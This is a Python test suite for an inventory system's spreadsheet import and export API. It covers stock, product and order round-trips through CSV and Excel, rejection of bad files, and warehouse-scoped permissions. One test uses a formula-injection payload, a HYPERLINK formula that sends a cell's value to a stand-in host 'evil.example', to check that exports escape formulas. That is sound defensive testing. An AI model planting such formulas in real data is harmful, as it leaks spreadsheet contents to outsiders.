"""``/api/v1/files``: an operator round-trips stock and products through Excel over HTTP;
a bad file is refused whole, as a problem document or as a report file."""

from __future__ import annotations

import csv
import io

import httpx
import openpyxl

from potok.domain.access import Role
from potok.spreadsheets import FileFormat, read_table
from tests.auth import make_user, sign_in
from tests.conftest import LiveServer
from tests.factories import build_world_api
from tests.problems import problem

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def levels(api: httpx.Client) -> dict[tuple[str, str], int]:
    body = api.get("/api/v1/stock/levels").json()
    return {(row["warehouse"], row["sku"]): row["on_hand"] for row in body["items"]}


def test_stock_goes_out_to_excel_and_comes_back_edited(api: httpx.Client) -> None:
    build_world_api(api, {("MSK", "KET"): 3, ("SPB", "MUG"): 5})

    exported = api.get("/api/v1/files/stock-levels", params={"format": "xlsx"})

    assert exported.status_code == 200, exported.text
    assert exported.headers["content-type"] == XLSX
    assert 'filename="stock-levels.xlsx"' in exported.headers["content-disposition"]
    book = openpyxl.load_workbook(io.BytesIO(exported.content))
    sheet = book.active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    column = header.index("on_hand") + 1
    for row in range(2, sheet.max_row + 1):
        sheet.cell(row, column).value = 20
    edited = io.BytesIO()
    book.save(edited)

    imported = api.put(
        "/api/v1/files/stock-levels", content=edited.getvalue(), headers={"Content-Type": XLSX}
    )
    again = api.put(
        "/api/v1/files/stock-levels", content=edited.getvalue(), headers={"Content-Type": XLSX}
    )

    assert imported.status_code == 200, imported.text
    assert imported.json() == {
        "kind": "stock-levels",
        "rows": 2,
        "changed": 2,
        "created": 0,
        "unchanged": 0,
    }
    assert again.json()["changed"] == 0
    assert levels(api) == {("MSK", "KET"): 20, ("SPB", "MUG"): 20}


def test_a_bad_stock_file_is_refused_whole_with_every_row_and_column(api: httpx.Client) -> None:
    build_world_api(api, {("MSK", "KET"): 3})
    body = "warehouse,sku,on_hand\nMSK,KET,9\nMSK,NOPE,1\nSPB,MUG,lots\n"

    answer = api.put(
        "/api/v1/files/stock-levels", content=body, headers={"Content-Type": "text/csv"}
    )

    found = problem(answer, 422, "invalid-import-file")
    assert [(p["row"], p["column"]) for p in found["problems"]] == [(3, "sku"), (4, "on_hand")]
    assert found["bad_rows"] == 2
    assert levels(api) == {("MSK", "KET"): 3}


def test_a_caller_asking_for_csv_gets_the_problems_as_a_report_file(api: httpx.Client) -> None:
    build_world_api(api, {("MSK", "KET"): 3})
    body = "warehouse,sku,on_hand\nMSK,KET,9\nMSK,NOPE,1\n"

    answer = api.put(
        "/api/v1/files/stock-levels",
        content=body,
        headers={"Content-Type": "text/csv", "Accept": "text/csv"},
    )

    assert answer.status_code == 422
    assert answer.headers["content-type"].startswith("text/csv")
    report = read_table(io.BytesIO(answer.content), FileFormat.CSV)
    assert report.header.cells == ["row", "column", "value", "problem"]
    assert [r.cells[:3] for r in report] == [["3", "sku", "NOPE"]]


def test_a_json_body_is_not_a_file(api: httpx.Client) -> None:
    answer = api.put("/api/v1/files/products", json=[{"sku": "KET"}])
    problem(answer, 415, "unsupported-media-type")


def test_products_round_trip_through_csv(api: httpx.Client) -> None:
    build_world_api(api)
    body = "артикул;наименование;цена;ставка ндс;штрихкод\nTEA-1;Чай;199,90;22;4600000000008\n"

    created = api.put(
        "/api/v1/files/products",
        content=body.encode("cp1251"),
        headers={"Content-Type": "text/csv"},
    )
    exported = api.get("/api/v1/files/products")

    assert created.status_code == 200, created.text
    assert created.json()["created"] == 1
    tea = api.get("/api/v1/products/TEA-1").json()
    assert (tea["name"], tea["price"], tea["barcode"]) == ("Чай", "199.90", "4600000000008")
    assert exported.status_code == 200
    assert exported.headers["content-type"].startswith("text/csv")
    back = api.put(
        "/api/v1/files/products", content=exported.content, headers={"Content-Type": "text/csv"}
    )
    assert back.json()["changed"] == 0


def test_warehouse_staff_import_and_export_their_own_warehouses_only(
    live: LiveServer, api: httpx.Client
) -> None:
    build_world_api(api, {("MSK", "KET"): 3, ("SPB", "MUG"): 5})
    make_user(live.potok, "picker", Role.WAREHOUSE, warehouses=("MSK",))
    picker = sign_in(live.url, "picker")

    elsewhere = picker.request(
        "PUT",
        "/api/v1/files/stock-levels",
        content="warehouse,sku,on_hand\nSPB,MUG,1\n",
        headers={"Content-Type": "text/csv"},
    )
    exported = picker.request("GET", "/api/v1/files/stock-levels")

    problem(elsewhere, 403, "out-of-scope")
    rows = [r.cells[:2] for r in read_table(io.BytesIO(exported.content), FileFormat.CSV)]
    assert rows == [["MSK", "KET"]]
    assert levels(api) == {("MSK", "KET"): 3, ("SPB", "MUG"): 5}


def test_orders_go_out_to_excel_with_their_lines(live: LiveServer, api: httpx.Client) -> None:
    from tests.factories import order_body

    build_world_api(api, {("MSK", "KET"): 10})
    placed = api.post("/api/v1/orders", json=order_body([("KET", 2)], external_id="WEB-7"))
    assert placed.status_code == 201, placed.text

    answer = api.get("/api/v1/files/orders", params={"format": "xlsx", "status": "reserved"})

    assert answer.status_code == 200, answer.text
    book = openpyxl.load_workbook(io.BytesIO(answer.content))
    sheet = book.active
    assert sheet is not None
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0][:3] == ["order_id", "external_id", "channel"]
    assert [(r[1], r[12], r[14]) for r in rows[1:]] == [("WEB-7", "KET", 2)]


def test_an_order_export_never_hands_a_spreadsheet_a_formula(
    live: LiveServer, api: httpx.Client
) -> None:
    """A marketplace buyer named ``=HYPERLINK(...)`` reaches the operator's Excel as text."""
    from tests.factories import order_body

    build_world_api(api, {("MSK", "KET"): 10})
    name = '=HYPERLINK("http://evil.example/?"&B2,"Анна")'
    body = order_body([("KET", 1)], external_id="-1+1")
    body["customer"]["name"] = name
    placed = api.post("/api/v1/orders", json=body)
    assert placed.status_code == 201, placed.text

    answer = api.get("/api/v1/files/orders", params={"customer": "true"})

    assert answer.status_code == 200, answer.text
    header, row = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    cells = dict(zip(header, row, strict=True))
    assert cells["customer_name"] == "'" + name
    assert cells["external_id"] == "'-1+1"
    assert cells["quantity"] == "1"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    (first,) = read_table(io.BytesIO(answer.content), FileFormat.CSV)
    assert first.cells[1] == "-1+1"  # read back as it was written


def test_customer_columns_need_the_personal_data_permission(live: LiveServer) -> None:
    from potok.domain.access import Permission
    from tests.conftest import key_for

    secret = key_for(live.potok, Permission.ORDERS_READ)
    with live.client(headers={"Authorization": f"Bearer {secret}"}) as client:
        refused = client.get("/api/v1/files/orders", params={"customer": "true"})
        allowed = client.get("/api/v1/files/orders")

    problem(refused, 403, "forbidden")
    assert allowed.status_code == 200


def test_warehouse_staff_export_the_ledger_of_their_warehouses(
    live: LiveServer, api: httpx.Client
) -> None:
    build_world_api(api, {("MSK", "KET"): 3, ("SPB", "MUG"): 5})
    make_user(live.potok, "picker", Role.WAREHOUSE, warehouses=("MSK",))
    picker = sign_in(live.url, "picker")

    mine = picker.request("GET", "/api/v1/files/movements", params={"format": "xlsx"})
    theirs = picker.request("GET", "/api/v1/files/movements", params={"warehouse": "SPB"})

    assert mine.status_code == 200, mine.text
    rows = [r.cells for r in read_table(io.BytesIO(mine.content), FileFormat.XLSX)]
    assert [(r[2], r[3], r[5]) for r in rows] == [("MSK", "KET", "receipt")]
    assert theirs.status_code == 200  # another's warehouse is not there: an empty ledger
    assert list(read_table(io.BytesIO(theirs.content), FileFormat.CSV)) == []


def test_stock_rules_are_imported_from_csv_and_exported(api: httpx.Client) -> None:
    build_world_api(api, {("MSK", "KET"): 3})

    imported = api.put(
        "/api/v1/files/stock-rules",
        content="warehouse,sku,min,max\nMSK,KET,2,10\n",
        headers={"Content-Type": "text/csv"},
    )
    exported = api.get("/api/v1/files/stock-rules")

    assert imported.status_code == 200, imported.text
    assert imported.json()["created"] == 1
    rows = [r.cells[:5] for r in read_table(io.BytesIO(exported.content), FileFormat.CSV)]
    assert rows == [["MSK", "KET", "2", "10", "0"]]


ORDERS = (
    "канал;внешний номер;артикул;количество;город;адрес;покупатель\n"
    "web;F-1;KET;2;Тверь;Советская 1;Анна\n"
    "web;F-1;MUG;1;;;\n"
    "web;F-2;MUG;1;Тверь;Советская 2;Олег\n"
)


def test_orders_are_imported_from_a_file_once_and_reported(api: httpx.Client) -> None:
    build_world_api(api, {("MSK", "KET"): 10, ("MSK", "MUG"): 10})

    tried = api.put(
        "/api/v1/files/orders",
        params={"dry_run": "true"},
        content=ORDERS,
        headers={"Content-Type": "text/csv"},
    )
    first = api.put("/api/v1/files/orders", content=ORDERS, headers={"Content-Type": "text/csv"})
    again = api.put(
        "/api/v1/files/orders",
        content=ORDERS,
        headers={"Content-Type": "text/csv", "Accept": "text/csv"},
    )

    assert tried.status_code == 200, tried.text
    assert (tried.json()["would_take"], tried.json()["taken"]) == (2, 0)
    assert first.status_code == 200, first.text
    body = first.json()
    assert (body["rows"], body["orders"], body["taken"], body["existing"]) == (3, 2, 2, 0)
    assert [(o["row"], o["external_id"], o["outcome"]) for o in body["outcomes"]] == [
        (2, "F-1", "taken"),
        (4, "F-2", "taken"),
    ]
    order = api.get(f"/api/v1/orders/{body['outcomes'][0]['order_id']}").json()
    assert [(ln["sku"], ln["quantity"]) for ln in order["lines"]] == [("KET", 2), ("MUG", 1)]
    assert again.status_code == 200
    assert again.headers["content-type"].startswith("text/csv")
    report = [r.cells[:5] for r in read_table(io.BytesIO(again.content), FileFormat.CSV)]
    assert report == [
        ["2", "web", "F-1", "existing", str(body["outcomes"][0]["order_id"])],
        ["4", "web", "F-2", "existing", str(body["outcomes"][1]["order_id"])],
    ]
    listed = api.get("/api/v1/orders").json()["items"]
    assert len(listed) == 2


def test_a_bad_orders_file_takes_nothing_and_names_the_cells(api: httpx.Client) -> None:
    build_world_api(api, {("MSK", "KET"): 10})
    body = "channel,external_id,sku,quantity,city,address\nweb,F-1,KET,1,Тверь,Советская 1\n"
    body += "web,F-2,NOPE,1,Тверь,Советская 1\n"

    answer = api.put("/api/v1/files/orders", content=body, headers={"Content-Type": "text/csv"})

    found = problem(answer, 422, "invalid-import-file")
    assert [(p["row"], p["column"]) for p in found["problems"]] == [(3, "sku")]
    assert api.get("/api/v1/orders").json()["items"] == []


def test_orders_round_trip_through_excel_over_http(api: httpx.Client) -> None:
    build_world_api(api, {("MSK", "KET"): 10, ("MSK", "MUG"): 10})
    first = api.put("/api/v1/files/orders", content=ORDERS, headers={"Content-Type": "text/csv"})
    order_id = first.json()["outcomes"][0]["order_id"]
    exported = api.get("/api/v1/files/orders", params={"format": "xlsx"})
    book = openpyxl.load_workbook(io.BytesIO(exported.content))
    sheet = book.active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    sheet.cell(3, header.index("quantity") + 1).value = 5  # F-1's mugs: 1 -> 5
    edited = io.BytesIO()
    book.save(edited)

    answer = api.put(
        "/api/v1/files/orders", content=edited.getvalue(), headers={"Content-Type": XLSX}
    )

    assert answer.status_code == 200, answer.text
    body = answer.json()
    assert (body["changed"], body["existing"], body["taken"]) == (1, 1, 0)
    order = api.get(f"/api/v1/orders/{order_id}").json()
    assert [(ln["sku"], ln["quantity"]) for ln in order["lines"]] == [("KET", 2), ("MUG", 5)]
    assert len(api.get("/api/v1/orders").json()["items"]) == 2
